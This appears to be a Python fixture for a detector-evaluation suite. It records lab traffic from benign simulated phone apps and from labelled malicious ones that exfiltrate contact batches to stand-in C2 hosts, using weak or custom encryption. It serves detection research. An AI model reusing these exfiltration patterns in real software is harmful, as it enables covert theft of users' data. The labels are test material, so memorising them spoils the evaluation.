"""The chain evaluation suite's scenarios: benign and malicious apps, recorded for real.

``record_scenarios(out_dir)`` records, between network namespaces, one
*normal* period (only the benign apps: the baseline's input) and one
*evaluation* period (benign and malicious apps side by side), each with the
device context the MDM would have uploaded, and a ``labels.json`` that names
every app's truth: benign, or malicious with the analytic it should trigger.
Flows are tied to apps through the recorded 5-tuples, so scores per app can be
computed with and without context.
"""
from __future__ import annotations

import json
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from netan.testing import apps
from netan.testing.apps import Service

__all__ = ["APPS", "AppLabel", "record_scenarios", "SERVER_ADDRESSES"]

DNS = "10.77.2.53"
WWW, CDN, PHOTOS, MUSIC, STORE, CHAT, C2, C2B = ("10.77.2.10", "10.77.2.12", "10.77.2.13", "10.77.2.14",
                                                   "10.77.2.15", "10.77.2.16", "10.77.2.66", "10.77.2.67")
ZONE = {"www.example.org": [WWW], "cdn.example.org": [CDN], "photos.example.net": [PHOTOS],
        "stream.music.example": [MUSIC], "store.example.com": [STORE], "push.chat.example": [CHAT],
        "sync.analytics-cdn.example": [C2], "api.update-check.example": [C2B]}
SERVER_ADDRESSES = [DNS, WWW, CDN, PHOTOS, MUSIC, STORE, CHAT, C2, C2B]
#: Apps on one phone do not fire in the same tenth of a second: a pause between them
#: keeps their connect events further apart than Android's logging jitter (which
#: the join rightly refuses to guess through).
APP_GAP_S = 2.0
#: What a collecting app serialises in front of every batch (the same on each one).
BATCH_HEADER = b'{"v":2,"device":"3c286d000b02","kind":"contacts","batch":['
SERVICES = [
    Service("dns", DNS, 53),
    Service("https", WWW, 443, {"hostnames": ["www.example.org"]}),
    Service("http", WWW, 80),
    Service("https", CDN, 443, {"hostnames": ["cdn.example.org"]}),
    Service("https", PHOTOS, 443, {"hostnames": ["photos.example.net"]}),
    Service("https", MUSIC, 443, {"hostnames": ["stream.music.example"]}),
    Service("http", STORE, 80),
    Service("tls_frames", CHAT, 443, {"hostnames": ["push.chat.example"], "reply_size": 48}),
    Service("frames", C2, 4443),
    Service("http", C2, 80),
    Service("https", C2, 443, {"hostnames": ["sync.analytics-cdn.example"]}),
    Service("frames", C2B, 5222),
    Service("http", C2B, 80),
]


@dataclass(frozen=True)
class AppLabel:
    package: str
    device: str
    malicious: bool
    analytic: str | None  # the analytic a correct detector names
    what: str


APPS = [
    AppLabel("com.android.chrome", "phone-a", False, None, "browser in the foreground, in use"),
    AppLabel("com.whatsapp", "phone-a", False, None, "messenger: TLS keep-alive in the background, makes keys"),
    AppLabel("com.google.android.apps.photos", "phone-a", False, None, "photo backup: large TLS uploads, background"),
    AppLabel("com.spotify.music", "phone-a", False, None, "music streaming over TLS, foreground service"),
    AppLabel("com.android.vending", "phone-a", False, None, "app store: compressed packages over HTTP"),
    AppLabel("com.flashlight.ecb", "phone-b", True, "AN1731", "AES-ECB, one key, length-prefixed TCP"),
    AppLabel("com.cleaner.staticiv", "phone-b", True, "AN1731", "AES-CBC with a static IV and a reused key"),
    AppLabel("com.wallpaper.rc4", "phone-b", True, "AN1731", "RC4 restarted with the same key: keystream reuse"),
    AppLabel("com.fitness.hybrid", "phone-b", True, "AN1762", "RSA-OAEP hybrid envelopes over HTTP"),
    AppLabel("com.quiz.hybridjson", "phone-b", True, "AN1762", "RSA-OAEP envelopes, base64 in JSON"),
    AppLabel("com.vpn.gcm", "phone-b", True, "AN1716", "AES-GCM with a fresh nonce over a custom TCP protocol"),
    AppLabel("com.notes.tlsexfil", "phone-b", True, "AN1716",
             "TLS upload to a self-signed host while the screen is off"),
]


def _benign(s: Any, heavy: bool) -> None:
    """The benign apps' day: the same in the normal and the evaluation period."""
    pki = s.pki
    s.screen_on("phone-a")
    s.start_app("phone-a", "com.whatsapp")
    s.key_generated("phone-a", "com.whatsapp", "signal_identity_key")
    chat = s.ctx("phone-a", "com.whatsapp")
    s.spawn("phone-a", apps.tls_keepalive, chat, "push.chat.example", trust_pem=pki.trust_for("push.chat.example"),
            pings=4, interval=0.4)
    s.start_app("phone-a", "com.android.chrome")
    s.foreground("phone-a", "com.android.chrome")
    s.interact("phone-a", "com.android.chrome")
    chrome = s.ctx("phone-a", "com.android.chrome")
    s.run("phone-a", apps.https_request, chrome, "www.example.org", trust_pem=pki.trust_for("www.example.org"),
          path="/?size=20000")
    s.run("phone-a", apps.https_request, chrome, "cdn.example.org", trust_pem=pki.trust_for("cdn.example.org"),
          path="/img?size=30000&type=random")
    s.run("phone-a", apps.http_request, chrome, "www.example.org", path="/news?size=6000")
    s.background("phone-a", "com.android.chrome")
    s.start_app("phone-a", "com.android.vending")
    s.foreground("phone-a", "com.android.vending")
    s.interact("phone-a", "com.android.vending")
    store = s.ctx("phone-a", "com.android.vending")
    s.run("phone-a", apps.http_request, store, "store.example.com", path="/pkg?size=40000&type=gzip")
    s.background("phone-a", "com.android.vending")
    s.start_app("phone-a", "com.google.android.apps.photos")
    photos = s.ctx("phone-a", "com.google.android.apps.photos")
    for i in range(2 if heavy else 1):
        s.run("phone-a", apps.https_request, photos, "photos.example.net",
              trust_pem=pki.trust_for("photos.example.net"), method="POST", path=f"/upload/{i}",
              body=apps.collected_data(1, f"p{i}")[:0] + bytes(_jpeg_like(120_000, i)), content_type="image/jpeg")
    s.start_app("phone-a", "com.spotify.music")
    s.usage("phone-a", "com.spotify.music", "FOREGROUND_SERVICE_START")
    music = s.ctx("phone-a", "com.spotify.music")
    s.run("phone-a", apps.https_request, music, "stream.music.example",
          trust_pem=pki.trust_for("stream.music.example"), path="/track?size=150000&type=random")


def _jpeg_like(size: int, seed: int) -> bytes:
    """A real JPEG file of about ``size`` bytes (made with Pillow from noise)."""
    import io
    import random

    from PIL import Image

    rng = random.Random(seed)
    side = 64
    while True:
        img = Image.frombytes("RGB", (side, side), bytes(rng.getrandbits(8) for _ in range(side * side * 3)))
        buf = io.BytesIO()
        img.save(buf, format="JPEG", quality=90)
        if buf.tell() >= size or side >= 1024:
            return buf.getvalue()
        side *= 2


def _malicious(s: Any, server_pub: bytes) -> None:
    s.screen_on("phone-b")
    for label in APPS:
        if label.malicious:
            s.start_app("phone-b", label.package)
    for pkg, mode, port, host in (("com.flashlight.ecb", "ecb", 4443, "sync.analytics-cdn.example"),
                                  ("com.cleaner.staticiv", "cbc-static-iv", 5222, "api.update-check.example"),
                                  ("com.wallpaper.rc4", "rc4", 4443, "sync.analytics-cdn.example"),
                                  ("com.vpn.gcm", "gcm", 5222, "api.update-check.example")):
        time.sleep(APP_GAP_S)
        alias = f"{pkg.split('.')[-1]}_key"
        s.key_generated("phone-b", pkg, alias)
        s.run("phone-b", apps.exfil_tcp, s.ctx("phone-b", pkg), host, port=port, sizes=[1200, 800, 1600, 1000],
              mode=mode, interval=0.05, key_alias=None, header=BATCH_HEADER)
    for pkg, enc in (("com.fitness.hybrid", "raw"), ("com.quiz.hybridjson", "json_b64")):
        time.sleep(APP_GAP_S)
        s.run("phone-b", apps.hybrid_upload, s.ctx("phone-b", pkg), "api.update-check.example",
              server_public_pem=server_pub, sizes=[900, 1500], encoding=enc, interval=0.05,
              key_alias=f"{pkg.split('.')[-1]}_rsa")
    time.sleep(APP_GAP_S)
    s.screen_off("phone-b")
    notes = s.ctx("phone-b", "com.notes.tlsexfil")
    s.key_generated("phone-b", "com.notes.tlsexfil", "notes_backup_key")
    s.run("phone-b", apps.https_request, notes, "sync.analytics-cdn.example",
          trust_pem=s.pki.trust_for("sync.analytics-cdn.example"), method="POST", path="/up",
          body=apps.collected_data(6000), verify=True)


def record_scenarios(out_dir: str | Path, *, prefix: str = "netaneval") -> dict[str, Any]:
    """Record normal.pcap + context_normal/ and eval.pcap + context_eval/ + labels.json."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    from netan.testing.netns import Lab
    from netan.testing.session import Session

    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    server_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    server_pub = server_key.public_key().public_bytes(serialization.Encoding.PEM,
                                                      serialization.PublicFormat.SubjectPublicKeyInfo)
    flows: dict[str, list] = {}
    for period in ("normal", "eval"):
        with Lab(prefix=prefix) as lab:
            s = Session(lab)
            s.add_device("phone-a", skew=45.0, mac="3c:28:6d:00:0a:01")
            s.add_device("phone-b", skew=-120.0, mac="3c:28:6d:00:0b:02")
            s.add_server("internet", SERVER_ADDRESSES, SERVICES, zone=ZONE,
                         self_signed=["sync.analytics-cdn.example"])
            with s.recording(out / f"{period}.pcap"):
                _benign(s, heavy=period == "normal")
                if period == "eval":
                    _malicious(s, server_pub)
            s.write_context(out / f"context_{period}")
            flows[period] = [[t.package, t.proto, t.src_ip, t.src_port, t.dst_ip, t.dst_port, t.kind]
                             for t in s.truth.flows]
    labels = {"apps": [vars(a) for a in APPS], "flows": flows}
    (out / "labels.json").write_text(json.dumps(labels, indent=1))
    return labels
